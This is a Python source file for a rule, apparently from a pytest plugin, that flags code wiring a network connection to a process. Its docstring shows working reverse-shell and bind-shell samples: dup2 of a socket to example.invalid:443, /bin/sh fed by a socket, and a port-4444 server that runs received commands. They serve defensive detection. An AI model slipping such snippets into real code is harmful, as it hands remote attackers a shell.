"""SMG210: somebody far away gets a shell."""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from typing import TYPE_CHECKING

from pytest_selfmod_guard.model import Risk
from pytest_selfmod_guard.rules import Sighting, python_rule
from pytest_selfmod_guard.rules.danger._foreign import LINK, NETWORK, kinds_of
from pytest_selfmod_guard.rules.danger._processes import WORDS, Process, processes, program
from pytest_selfmod_guard.syntax import Unknown

if TYPE_CHECKING:
    from pytest_selfmod_guard.syntax import Call, Python

_WIRED = frozenset((LINK, NETWORK))
_STREAMS = ((3, "stdin"), (4, "stdout"), (5, "stderr"))
_SENDS = re.compile(
    r"(?:\*|socket)\.(?:send|sendall|sendto|send_message|sendMessage|reply_text|reply_to|reply"
    r"|publish|send_text|sendmsg)"
)
_POSTS = re.compile(
    r"(?:requests|httpx)\.(?:post|put|patch|get|request)|\*\.post|urllib\.request\.\w+"
)
_STARTED = re.compile(r"subprocess\..+|os\.popen|asyncio\..*create_subprocess_\w+|\*\.communicate")
_SERVERS = re.compile(
    r"asyncio\.start_(?:unix_)?server|\*\.create_server|websockets?\.(?:[\w.]+\.)?(?:serve|WebSocketApp)"
    r"|socketserver\.\w+|(?:telebot|telegram|discord|paramiko|aiogram|socketio|irc|slixmpp"
    r"|nextcord|paho|pika|kafka|nats|stomp|redis|pyrogram|telethon|twisted\.internet|zmq)\..+|socket|socket\.(?:socket|create_server)"
)


@python_rule(
    "SMG210",
    risk=Risk.CRITICAL,
    hint="let the other side choose among named operations, each a function of its own; "
    "never connect a socket with a process, nor run what a message says",
    triggers=(*WORDS, b"dup2"),
    supersedes=("SMG204", "SMG209", "B602", "B603", "B605"),
)
def remote_shell(python: Python) -> Iterable[Sighting]:
    """
    A network connection is wired to a process, so that who is at its end has a shell.

    Reverse and bind shells, by `dup2`, by handing a socket to a process, by
    servers, bots and message queues whose handlers run what they are told, and
    loops that send the output of such commands back.

    Flagged: the standard streams become a socket [critical]
        === shop/__init__.py
          import os, pty, socket
        + link = socket.socket()
        + link.connect(("example.invalid", 443))
        + for number in (0, 1, 2):
        +     os.dup2(link.fileno(), number)

    Flagged: a socket is the input of a process [critical]
        === shop/support.py
          import socket
          from subprocess import Popen
        + link = socket.create_connection(("example.invalid", 443))
        + Popen(["/bin/sh", "-i"], stdin=link, stdout=link, stderr=link)

    Flagged: a server that runs what it is sent [critical]
        === shop/support.py
          import asyncio
        + async def serve(reader, writer):
        +     line = (await reader.readline()).decode().split()
        +     await asyncio.create_subprocess_exec(*line)
        + asyncio.start_server(serve, "0.0.0.0", 4444)

    Allowed: a server that starts one program
        === shop/server.py
          import subprocess
          import socketserver
        + class Handler(socketserver.StreamRequestHandler):
        +     def handle(self):
        +         self.wfile.write(subprocess.check_output(["uptime"]))

    Allowed: streams of a daemon
        === shop/daemon.py
          import os
        + os.dup2(os.open(os.devnull, os.O_RDWR), 0)
    """
    for call in python.calls:
        if "os.dup2" in call.names and _WIRED & kinds_of(python, call.arg(python, 0, "fd")):
            yield _sighting(python, call, "a standard stream becomes a network connection")
    started = list(processes(python))
    for process in started:
        if why := _why(python, process):
            yield _sighting(python, process.call, why)
    if any(not _is_constant(python, process) for process in started):
        yield from _sent_back(python)


def _sighting(python: Python, call: Call, message: str, risk: Risk | None = None) -> Sighting:
    return Sighting(python.line(call.node), message, python.code(call.node), call.scope, risk=risk)


def _why(python: Python, process: Process) -> str:
    streams = [process.call.arg(python, at, name) for at, name in _STREAMS]
    if _WIRED & kinds_of(python, *(stream for stream in streams if stream is not None)):
        return "a process reads from, or writes to, a network connection"
    if _is_constant(python, process) or not _serves(python):
        return ""
    told = [name for node in program(python, process) for name in python.origins(node)]
    if any(name.startswith("param:") or name in _READS for name in told):
        return "what comes in over the network decides which process runs"
    return ""


_READS = frozenset(("*.readline", "*.read", "*.readuntil", "*.recv", "*.rfile", "*.content"))


def _is_constant(python: Python, process: Process) -> bool:
    nodes = program(python, process)
    return bool(nodes) and not any(isinstance(python.fold(node), Unknown) for node in nodes[:1])


def _serves(python: Python) -> bool:
    """Tell whether the file listens to the network, or is told things by a bot."""
    called = (name for call in python.calls for name in call.names)
    bases = (name for one in python.classes for base in one.bases for name in base)
    return any(_SERVERS.fullmatch(name) for names in (called, bases) for name in names)


def _sent_back(python: Python) -> Iterator[Sighting]:
    """Give where the output of a process whose command is computed goes over the network."""
    for call in python.calls:
        sends = any(_SENDS.fullmatch(name) for name in call.names)
        posts = any(_POSTS.fullmatch(name) for name in call.names)
        if not sends and not posts:
            continue
        sent = [argument.value for argument in call.node.args]
        told = {name for node in sent for name in python.origins(node)}
        if any(_STARTED.fullmatch(name) for name in told):
            risk = None if sends and _serves(python) else Risk.MEDIUM
            yield _sighting(python, call, "the output of a process is sent away", risk)
